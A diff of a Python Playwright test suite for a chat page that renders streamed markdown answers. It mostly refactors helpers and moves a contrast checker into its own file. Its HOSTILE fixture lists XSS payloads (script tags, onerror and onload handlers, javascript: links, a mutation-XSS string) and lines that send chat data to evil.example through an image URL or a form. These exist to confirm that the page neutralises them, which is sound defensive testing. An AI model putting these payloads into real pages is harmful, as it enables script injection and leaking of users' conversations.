@@ -21,15 +21,21 @@ ANSWER = (
     "A **ring", " buffer** keeps", " the last items.\n\n", "```python\n", "ring = [0]", " * 8\n", "```\n\n",
     "| push", " | cost |\n", "|---", "|---|\n", "| one", " | O(1) |\n\n", "Ask *on*", " and see.",
 )  # fmt: skip
+CONTRAST = Path(__file__).with_name("contrast.js")
 SAYS = "A ring buffer keeps the last items."
 #: What a page must show and never obey: each would set window.hacked, fetch something or change the page.
 HOSTILE = (
-    "<script>window", ".hacked = 1</script>", "\n\n<img src=x", " onerror=\"window.hacked = 2\">", "\n\n[a link]",
-    "(javascript:window.hacked=3)", "\n\n<iframe srcdoc='<script>parent.hacked = 4</script>'></iframe>",
-    "\n\n<style>body { display: none }</style>", "\n\n![picture](https://evil.example/p.png?chat=secret)",
-    "\n\n</div></article><form action=https://evil.example><button id=send>", "\n\n```html\n<svg onload=window.hacked=5>",
-    "\n```\n\n", "<a href=\"https://evil.example\" onclick=\"window.hacked = 6\">here</a>", "\n\n[id]: data:text/html,x",
-    "\n\n```\"><img src=y onerror=window.hacked=7>\nx = 1", "\n```\n", "<math><mtext><table><mglyph><style><img src=z onerror=window.hacked=8>",
+    "<script>window", ".hacked = 1</script>",
+    "\n\n<img src=x", " onerror=\"window.hacked = 2\">",
+    "\n\n[a link]", "(javascript:window.hacked=3)",
+    "\n\n<iframe srcdoc='<script>parent.hacked = 4</script>'></iframe>",
+    "\n\n<style>body { display: none }</style>",
+    "\n\n![picture](https://evil.example/p.png?chat=secret)",
+    "\n\n</div></article><form action=https://evil.example><button id=send>",
+    "\n\n```html\n<svg onload=window.hacked=5>", "\n```\n\n",
+    "<a href=\"https://evil.example\" onclick=\"window.hacked = 6\">here</a>", "\n\n[id]: data:text/html,x",
+    "\n\n```\"><img src=y onerror=window.hacked=7>\nx = 1", "\n```\n",
+    "<math><mtext><table><mglyph><style><img src=z onerror=window.hacked=8>",
     "\n\n`<b>code</b>`", " [x](data:text/html;base64,PHN) the end.",
 )  # fmt: skip
 
@@ -108,8 +114,9 @@ class Tab:
             """files => {
                 const data = new DataTransfer();
                 for (const { name, bytes } of files) data.items.add(new File([new Uint8Array(bytes)], name));
+                const options = { dataTransfer: data, bubbles: true, cancelable: true };
                 for (const kind of ["dragenter", "dragover", "drop"])
-                    document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: data, bubbles: true, cancelable: true }));
+                    document.body.dispatchEvent(new DragEvent(kind, options));
             }""",
             given,
         )
@@ -214,7 +221,8 @@ def test_files_are_dropped(tab: Tab) -> None:
         tab.ask("Again?")
     told = asked.value.post_data_json["messages"][0]["content"]
     assert told == (
-        "notes.md:\n```\n# Grüße\n```\n\nkeeper.pdf:\n```\nThe keeper is Mara.\n```\n\n<b>.py:\n````\nx = '```'\n````\n\nWhat do they say?"
+        "notes.md:\n```\n# Grüße\n```\n\nkeeper.pdf:\n```\nThe keeper is Mara.\n```\n\n"
+        "<b>.py:\n````\nx = '```'\n````\n\nWhat do they say?"
     )
 
 
@@ -283,11 +291,12 @@ def test_the_policy_forbids_what_the_page_does_not_need(context: api.BrowserCont
     headers = context.request.get(address).headers
     assert "unsafe" not in headers["content-security-policy"]
     page = Tab(context.new_page(), address).page
-    refused = page.evaluate("""() => new Promise(resolve => setTimeout(() => {  // later: debuggers may do more than pages
-        const tried = {};
-        try { new Function("return 1")(); tried.code = true; } catch { tried.code = false; }
-        try { document.body.insertAdjacentHTML("beforeend", "<i></i>"); tried.html = true; } catch { tried.html = false; }
-        resolve(tried);
+    refused = page.evaluate("""() => new Promise(resolve => setTimeout(() => {  // a debugger's own script may do more
+        const allowed = work => { try { work(); return true; } catch { return false; } };
+        resolve({
+            code: allowed(() => new Function("return 1")()),
+            html: allowed(() => document.body.insertAdjacentHTML("beforeend", "<i></i>")),
+        });
     }))""")
     assert refused == {"code": False, "html": False}
 
@@ -385,34 +394,7 @@ def test_light_and_dark(tab: Tab) -> None:
     tab.ask("Is it readable?")
     for colours in ("light", "dark"):
         tab.page.emulate_media(color_scheme=colours)
-        assert tab.page.evaluate(CONTRAST) == []
-
-
-#: Texts whose contrast with what is behind them is less than WCAG's 4.5 : 1.
-CONTRAST = """() => {
-    const canvas = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
-    const rgba = colour => {
-        canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
-        return [...canvas.getImageData(0, 0, 1, 1).data];
-    };
-    const light = ([r, g, b]) => [r, g, b].map(v => v / 255).map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
-        .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
-    const behind = element => {
-        if (!element) return [255, 255, 255];
-        const [r, g, b, a] = rgba(getComputedStyle(element).backgroundColor);
-        const under = a < 255 ? behind(element.parentElement) : [0, 0, 0];
-        return [r, g, b].map((v, i) => (v * a + under[i] * (255 - a)) / 255);
-    };
-    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
-    const poor = [];
-    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
-        const element = node.parentElement;
-        if (!node.data.trim() || !element.checkVisibility({ opacityProperty: true }) || element.closest(".vh, .skip, :disabled")) continue;
-        const [a, b] = [light(rgba(getComputedStyle(element).color)), light(behind(element))].sort((x, y) => y - x);
-        if ((a + 0.05) / (b + 0.05) < 4.5) poor.push([node.data.trim().slice(0, 40), (a + 0.05) / (b + 0.05)]);
-    }
-    return poor;
-}"""
+        assert tab.page.evaluate(CONTRAST.read_text(encoding="utf-8")) == []
 
 
 def test_a_phone_has_no_sideways_scrolling(chromium: api.Browser, address: str) -> None:
